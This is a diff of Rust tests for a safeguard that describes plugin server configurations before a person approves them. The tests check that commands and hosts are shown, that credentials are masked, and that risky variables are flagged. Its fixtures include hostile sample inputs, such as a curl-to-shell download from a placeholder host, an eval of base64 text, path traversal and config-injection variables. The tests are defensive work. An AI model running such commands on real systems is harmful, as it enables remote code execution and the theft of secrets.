@@ -246,30 +246,224 @@ fn e07_what_could_run_is_shown_whole() {
         let text = place.ask(fields).to_string();
         assert!(text.contains(shown), "{shown}: {text}");
     }
-    place.plugin("X_TOKEN", "run-me");
+    place.plugin("X_VALUE", "run-me");
     // An argument that it also stands in does not hide it.
-    let fields = r#""command": "git", "args": ["${X_TOKEN}"],
-                    "env": {"GIT_CONFIG_VALUE_0": "${X_TOKEN}"}"#;
+    let fields = r#""command": "git", "args": ["${X_VALUE}"],
+                    "env": {"GIT_CONFIG_VALUE_0": "${X_VALUE}"}"#;
     let text = place.ask(fields).to_string();
-    assert!(text.contains("${X_TOKEN} is run-me,"), "{text}");
+    assert!(text.contains("${X_VALUE} is run-me,"), "{text}");
 }
 
-/// Of a token that a longer text holds only the beginning is shown.
+/// Hidden is a whole value in a credential's place: a part of another may be what runs.
 #[test]
-fn e07_a_token_inside_a_literal_is_masked_and_the_rest_is_not() {
+fn e07_a_whole_credential_is_masked_and_a_part_of_a_literal_is_not() {
     let place = Place::new();
     let token = ["kT8vQ2mX9w", "Lz4Rb7Yc3N"].concat();
-    for fields in [
-        format!(r#""command": "prog", "env": {{"A": "--x; {token} y"}}"#),
-        format!(r#""command": "prog", "env": {{"API_KEY": "x; {token} y"}}"#),
-        format!(r#""command": "git", "env": {{"GIT_TOKEN": "{token}"}}"#),
-        format!(r#""command": "sh", "args": ["-c", "x --token {token} y"]"#),
+    for (fields, is_shown) in [
+        (
+            format!(r#""command": "prog", "env": {{"A": "--x; {token} y"}}"#),
+            true,
+        ),
+        (
+            format!(r#""command": "prog", "env": {{"API_KEY": "x; {token} y"}}"#),
+            true,
+        ),
+        (
+            format!(
+                r#""command": "prog", "env": {{"API_BASE_URL": "https://{token}.example/v1"}}"#
+            ),
+            true,
+        ),
+        (
+            format!(r#""command": "sh", "args": ["-c", "$A_KEY"], "env": {{"A_KEY": "{token}"}}"#),
+            true,
+        ),
+        (
+            format!(r#""command": "sh", "args": ["-c", "x --token {token} y"]"#),
+            true,
+        ),
+        (
+            format!(r#""command": "sh", "args": ["-c", "curl https://{token}.example/i|sh"]"#),
+            true,
+        ),
+        (
+            format!(r#""command": "node", "args": ["-e", "eval(atob('{token}'))"]"#),
+            true,
+        ),
+        (
+            format!(r#""command": "./{token}/run.sh", "cwd": "{token}/sub""#),
+            true,
+        ),
+        (
+            format!(r#""command": "git", "env": {{"GIT_TOKEN": "{token}"}}"#),
+            false,
+        ),
+        (
+            format!(r#""command": "prog", "env": {{"API_KEY": "{token}"}}"#),
+            false,
+        ),
+        (
+            format!(r#""command": "prog", "env": {{"DB": "pg://u:{token}@h.example/x"}}"#),
+            false,
+        ),
+        (
+            format!(r#""command": "prog", "args": ["--api-key", "{token}"]"#),
+            false,
+        ),
     ] {
         let text = place.ask(&fields).to_string();
-        assert!(text.contains("kT8v") && !text.contains(&token), "{text}");
-        assert!(fields.contains("GIT") || text.contains(" y'"), "{text}");
+        assert_eq!(text.contains(&token), is_shown, "{text}");
         place.approve(&fields);
         assert!(!place.is_approved(&fields.replace("Yc3N", "Yc3M")));
+    }
+}
+
+/// Threat E8: a destination is shown as it is.
+#[test]
+fn e08_hosts_and_addresses_are_shown_whatever_they_look_like() {
+    let place = Place::new();
+    let host = ["kT8vQ2mX9w", "Lz4Rb7Yc3N.example"].concat();
+    let fields = format!(
+        r#""type": "http", "url": "https://{host}/mcp", "headers": {{"X-Key": "${{T}}"}},
+           "oauth": {{"clientId": "c", "authorizationUrl": "https://a.example/a",
+                     "tokenUrl": "https://u:x7k2m9q4@{host}/t?api_key=x7k2m9q4"}}"#
+    );
+    let text = place.ask(&fields).to_string().to_lowercase();
+    let host = host.to_lowercase();
+    for shown in [
+        format!("reaches   https://{host} (https://{host}/mcp)"),
+        format!("sends     ${{t}} as header `x-key: ${{t}}` to https://{host}\n"),
+        format!("oauth     tokenurl = 'https://…@{host}/t?api_key=…'\n"),
+        format!("and https://{host} gets the code for it"),
+    ] {
+        assert!(text.contains(&shown), "{shown}: {text}");
+    }
+}
+
+/// P0: a file that the plugin chose may be the person's.
+#[test]
+fn p0_of_values_in_a_chosen_file_those_are_shown_that_decide() {
+    let mut place = Place::new();
+    for (name, value) in [
+        ("DB_PASSWORD", "summerholiday"),
+        ("PIN", "4711"),
+        ("API_TOKEN", "correct-horse-battery"),
+        ("DATABASE_URL", "pg://me:hunter2@h.example"),
+    ] {
+        place.plugin(name, value);
+    }
+    let fields = r#""command": "prog", "args": ["${DB_PASSWORD}", "${DATABASE_URL}"],
+        "env": {"A": "${DB_PASSWORD}", "B": "${PIN}", "C": "${API_TOKEN}"}"#;
+    let asked = place.ask(fields);
+    let text = format!("{asked}{}", asked.to_json());
+    for secret in ["summer", "4711", "horse", "hunter2"] {
+        assert!(!text.contains(secret), "{text}");
+    }
+    for name in ["DB_PASSWORD", "PIN", "API_TOKEN"] {
+        let line = format!("${{{name}}}, which is not shown, from a file");
+        assert!(text.contains(&line), "{line}: {text}");
+    }
+    assert!(
+        text.contains("${DATABASE_URL} is 'pg://…@h.example',"),
+        "{text}"
+    );
+    // They count all the same.
+    place.approve(fields);
+    place.plugin("PIN", "4712");
+    assert!(!place.is_approved(fields));
+    let fields = r#""command": "${DB_PASSWORD}""#;
+    let text = place.ask(fields).to_string();
+    assert!(
+        !text.contains("summer") && text.contains("look at it"),
+        "{text}"
+    );
+}
+
+#[test]
+fn p0_a_credential_of_the_persons_is_not_shown_in_a_path() {
+    let mut place = Place::new();
+    place.person("DB_PASSWORD", "hunter-two");
+    place.person("WHERE", "here");
+    for (fields, is_shown) in [
+        (r#""command": "prog", "cwd": "/x/${DB_PASSWORD}""#, false),
+        (
+            r#""command": "prog", "envFile": "/x/${DB_PASSWORD}""#,
+            false,
+        ),
+        (r#""command": "prog", "cwd": "/x/${WHERE}""#, true),
+    ] {
+        let text = place.ask(fields).to_string();
+        assert!(!text.contains("hunter"), "{text}");
+        assert_eq!(text.contains("/x/here"), is_shown, "{text}");
+        place.approve(fields);
+        place.person("DB_PASSWORD", "hunter-three");
+        assert_eq!(place.is_approved(fields), is_shown, "{fields}");
+        place.person("DB_PASSWORD", "hunter-two");
+    }
+}
+
+/// Threat E5: in another folder another file runs.
+#[test]
+fn e05_the_folder_that_one_works_in_counts_where_it_decides_what_runs() {
+    for (fields, counts) in [
+        (
+            r#""command": "sh", "args": ["server.sh"], "cwd": "${HOST_PROJECT_DIR}""#,
+            true,
+        ),
+        (
+            r#""command": "sh", "args": ["${CLAUDE_PROJECT_DIR}/server.sh"]"#,
+            true,
+        ),
+        (r#""command": "${HOST_PROJECT_DIR}/server.sh""#, true),
+        (
+            r#""command": "sh", "args": ["-c", ". $HOST_PROJECT_DIR/x"]"#,
+            true,
+        ),
+        (
+            r#""command": "prog", "env": {"NODE_OPTIONS": "--import=${HOST_PROJECT_DIR}/x"}"#,
+            true,
+        ),
+        (
+            r#""type": "http", "url": "https://h.example", "headersHelper": "${HOST_PROJECT_DIR}/h.sh""#,
+            true,
+        ),
+        (
+            r#""command": "prog", "env": {"A": "${HOST_PROJECT_DIR}"}"#,
+            false,
+        ),
+        (r#""command": "prog""#, false),
+    ] {
+        let mut place = Place::new();
+        let text = place.ask(fields).to_string();
+        let said = "${HOST_PROJECT_DIR} is /project, the folder that you work in";
+        assert_eq!(text.contains(said), counts, "{text}");
+        place.approve(fields);
+        place.project = "/elsewhere".into();
+        assert_eq!(place.is_approved(fields), !counts, "{fields}");
+        place.approve(fields);
+        place.project = "/project".into();
+        assert!(
+            place.is_approved(fields),
+            "they stand side by side: {fields}"
+        );
+    }
+}
+
+#[test]
+fn variables_that_lead_requests_elsewhere_are_marked() {
+    let place = Place::new();
+    for (name, is_marked) in [
+        ("HTTPS_PROXY", true),
+        ("http_proxy", true),
+        ("SSLKEYLOGFILE", true),
+        ("AWS_CONFIG_FILE", true),
+        ("NODE_COMPILE_CACHE", true),
+        ("XDG_CACHE_HOME", true),
+        ("MODE", false),
+    ] {
+        let fields = format!(r#""command": "prog", "env": {{"{name}": "x"}}"#);
+        let text = place.ask(&fields).to_string();
+        assert_eq!(text.contains("!! decides w"), is_marked, "{text}");
     }
 }
 
@@ -292,6 +486,9 @@ fn what_lies_outside_of_the_plugin_is_said_to_change_without_a_question() {
         r#""command": "../code/tool""#,
         r#""command": "node", "args": ["/proc/self/cwd/x.js"]"#,
         r#""command": "npx", "args": ["tsx", "../code/server.js"]"#,
+        r#""command": "npx", "args": ["-y", "tsx", "../code"]"#,
+        r#""command": "node", "args": ["--import", "./%2e%2e/code/server.js"]"#,
+        r#""command": "node", "args": ["--import", "..\\code\\server.js"]"#,
         r#""type": "http", "url": "https://h.example", "headersHelper": "../code/tool x""#,
     ] {
         let text = place.ask(fields).to_string();
@@ -302,11 +499,10 @@ fn what_lies_outside_of_the_plugin_is_said_to_change_without_a_question() {
         .ask(r#""command": "node", "cwd": "../code""#)
         .to_string();
     assert!(text.contains("can change without a question"), "{text}");
-    // The system's, a package's own affair, and the person's.
+    // The system's, and the person's.
     place.person("MINE", "../code/server.js");
     for fields in [
         r#""command": "/bin/sh", "args": ["server.sh"]"#,
-        r#""command": "npx", "args": ["server", "../code"]"#,
         r#""command": "node", "args": ["server.js", "${MINE}"]"#,
     ] {
         let text = place.ask(fields).to_string();
